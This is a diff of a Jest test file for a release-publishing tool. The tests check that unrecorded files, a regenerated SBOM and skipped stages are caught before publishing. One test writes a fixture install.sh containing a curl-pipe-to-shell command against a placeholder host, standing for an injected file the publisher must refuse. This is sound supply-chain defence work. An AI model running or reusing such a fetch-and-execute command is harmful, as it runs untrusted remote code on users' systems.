@@ -6,7 +6,7 @@ import { afterEach, describe, expect, it } from '@jest/globals';
 import { describeFile } from '@packaging-factory/core';
 import { contentTypeFor, publishToDirectory, type LocalAsset, type ReleaseManifest } from '@packaging-factory/publish';
 import { makeTestSession, type TestSession } from '../support/context.ts';
-import { passingPipeline, recordStages, REQUIRED, runPublish, writeArtifacts } from './publish-fixtures.ts';
+import { passingPipeline, pipelineFiles, recordStages, REQUIRED, runPublish, writeArtifacts } from './publish-fixtures.ts';
 
 const sessions: TestSession[] = [];
 const ENV: NodeJS.ProcessEnv = { PATH: process.env['PATH'], SOURCE_DATE_EPOCH: '1767225600' };
@@ -74,7 +74,7 @@ describe('publish to an immutable release directory (to: dir:PATH)', () => {
     expect(fileURLToPath(values['release-url']!)).toBe(releaseDir);
     expect(values['checksums']).toBe(path.join(releaseDir, 'SHA256SUMS'));
     expect(values['release-id']).toBe((await describeFile(path.join(releaseDir, 'SHA256SUMS'))).sha256);
-    expect(values['asset-count']).toBe('4');
+    expect(values['asset-count']).toBe('5');
     expect(outcome.record.outputs.map((o) => o.role)).toEqual(['checksums', 'manifest']);
     expect(outcome.result!.summary).toContain('| written |');
   });
@@ -105,7 +105,7 @@ describe('publish to an immutable release directory (to: dir:PATH)', () => {
     const rerun = await makeTestSession({ env: ENV, workDir: session.dir });
     sessions.push(rerun);
     await writeFile(files[0]!, Buffer.concat([await readFile(files[0]!), Buffer.from([0])]));
-    await recordStages(rerun, REQUIRED, { outputs: { 'build-package': [files[0]!] } });
+    await recordStages(rerun, REQUIRED, { files: pipelineFiles(files) });
     const { outcome } = await runPublish(rerun, { files: 'dist/*', tag: 'v1.2.3', to: 'dir:releases' });
     expect(outcome.record.status).toBe('failed');
     expect(outcome.exitCode).toBe(1);
@@ -145,12 +145,75 @@ describe('publish to an immutable release directory (to: dir:PATH)', () => {
   it('refuses, writing nothing, when the evidence pack lacks a stage', async () => {
     const session = await makeTestSession({ env: ENV });
     sessions.push(session);
-    await writeArtifacts(session.dir);
-    await recordStages(session, ['build-package', 'generate-sbom', 'scan', 'sign', 'test-install']);
+    const files = await writeArtifacts(session.dir);
+    await recordStages(session, ['build-package', 'generate-sbom', 'scan', 'sign', 'test-install'], { files: pipelineFiles(files) });
     const { outcome } = await runPublish(session, { files: 'dist/*', tag: 'v1.2.3', to: 'dir:releases' });
     expect(outcome.record.errors.map((e) => e.code)).toEqual(['PUBLISH_EVIDENCE_INCOMPLETE']);
     expect(outcome.record.errors[0]!.message).toContain('attest-provenance');
     await expect(stat(path.join(session.dir, 'releases'))).rejects.toMatchObject({ code: 'ENOENT' });
+  });
+
+  it('refuses, writing nothing, a file no earlier stage recorded (PUBLISH_EVIDENCE_INCOMPLETE naming it)', async () => {
+    const { session } = await pipeline();
+    // Dropped into dist/ after the pipeline ran: every stage passed, but none wrote this file.
+    await writeFile(path.join(session.dir, 'dist', 'install.sh'), '#!/bin/sh\ncurl https://example.invalid | sh\n');
+    await writeFile(path.join(session.dir, 'dist', 'widget-1.2.3-linux-arm64.tar.gz'), 'not built by the factory\n');
+    const { outcome } = await runPublish(session, { files: 'dist/*', tag: 'v1.2.3', to: 'dir:releases' });
+    expect(outcome.record.status).toBe('failed');
+    expect(outcome.exitCode).toBe(1);
+    expect(outcome.record.errors.map((e) => e.code)).toEqual(['PUBLISH_EVIDENCE_INCOMPLETE']);
+    const error = outcome.record.errors[0]!;
+    expect(error.subject).toBe('install.sh, widget-1.2.3-linux-arm64.tar.gz');
+    expect(error.message).toContain('install.sh (no earlier stage recorded it as an output)');
+    expect(error.message).toContain(
+      'widget-1.2.3-linux-arm64.tar.gz (no earlier stage recorded it as an output; build-package should have)',
+    );
+    expect(error.hint).toMatch(/run the stage that makes each file/);
+    expect(outcome.record.decision?.result).toBe('refused');
+    await expect(stat(path.join(session.dir, 'releases'))).rejects.toMatchObject({ code: 'ENOENT' });
+
+    // The recorded files alone still publish.
+    const recorded = await runPublish(session, {
+      files: 'dist/widget-1.2.3-linux-x64*\ndist/widget-1.2.3.cdx*',
+      tag: 'v1.2.3',
+      to: 'dir:releases',
+    });
+    expect(recorded.outcome.record.status).toBe('passed');
+  });
+
+  it('refuses, writing nothing, an SBOM regenerated after scan, sign and attest-provenance (broken chain of custody)', async () => {
+    const { session, files } = await pipeline();
+    // generate-sbom re-ran and passed with other bytes: the scan, the signature and the provenance are about the old SBOM.
+    await writeFile(files[1]!, '{"bomFormat":"CycloneDX","specVersion":"1.6","version":2,"components":[]}\n');
+    await recordStages(session, ['generate-sbom'], { files: pipelineFiles(files) });
+    const { outcome } = await runPublish(session, { files: 'dist/*', tag: 'v1.2.3', to: 'dir:releases' });
+    expect(outcome.exitCode).toBe(1);
+    const sbom = path.basename(files[1]!);
+    expect(outcome.record.errors.map((e) => [e.code, e.subject])).toEqual([
+      ['PUBLISH_EVIDENCE_INCOMPLETE', 'generate-sbom → scan'],
+      ['PUBLISH_EVIDENCE_INCOMPLETE', `sign → ${sbom}`],
+      ['PUBLISH_EVIDENCE_INCOMPLETE', `attest-provenance → ${sbom}`],
+    ]);
+    expect(outcome.record.errors[0]!.message).toMatch(/^broken chain of custody \(generate-sbom → scan\): the latest scan read /);
+    expect(outcome.result!.summary).toContain('| generate-sbom → scan | broken |');
+    expect(outcome.result!.summary).toContain('| build-package → test-install | holds |');
+    await expect(stat(path.join(session.dir, 'releases'))).rejects.toMatchObject({ code: 'ENOENT' });
+  });
+
+  it('says so when require-stages leaves stages out, and still refuses unvouched files', async () => {
+    const { session } = await pipeline();
+    const raw = { files: 'dist/*', tag: 'v1.2.3', to: 'dir:releases', 'require-stages': 'build-package,generate-sbom,scan,sign' };
+    const { outcome } = await runPublish(session, raw);
+    expect(outcome.record.status).toBe('passed');
+    const note =
+      "'require-stages' leaves out test-install, attest-provenance: their records and the chain-of-custody links through them are not checked";
+    expect(outcome.record.notes).toContain(note);
+    expect(session.logger.lines).toContainEqual({ level: 'warn', message: note });
+
+    await writeFile(path.join(session.dir, 'dist', 'extra.txt'), 'x\n');
+    const refused = await runPublish(session, { ...raw, tag: 'v1.2.4', 'require-stages': 'scan' });
+    expect(refused.outcome.record.errors.map((e) => [e.code, e.subject])).toEqual([['PUBLISH_EVIDENCE_INCOMPLETE', 'extra.txt']]);
+    await expect(stat(path.join(session.dir, 'releases', 'v1.2.4'))).rejects.toMatchObject({ code: 'ENOENT' });
   });
 
   it('puts a tag with slashes in nested directories', async () => {
@@ -162,6 +225,7 @@ describe('publish to an immutable release directory (to: dir:PATH)', () => {
       'release.json',
       'widget-1.2.3-linux-x64.tar.gz.sigstore.json',
       'widget-1.2.3.cdx.json',
+      'widget-1.2.3.cdx.json.sigstore.json',
     ]);
   });
 });
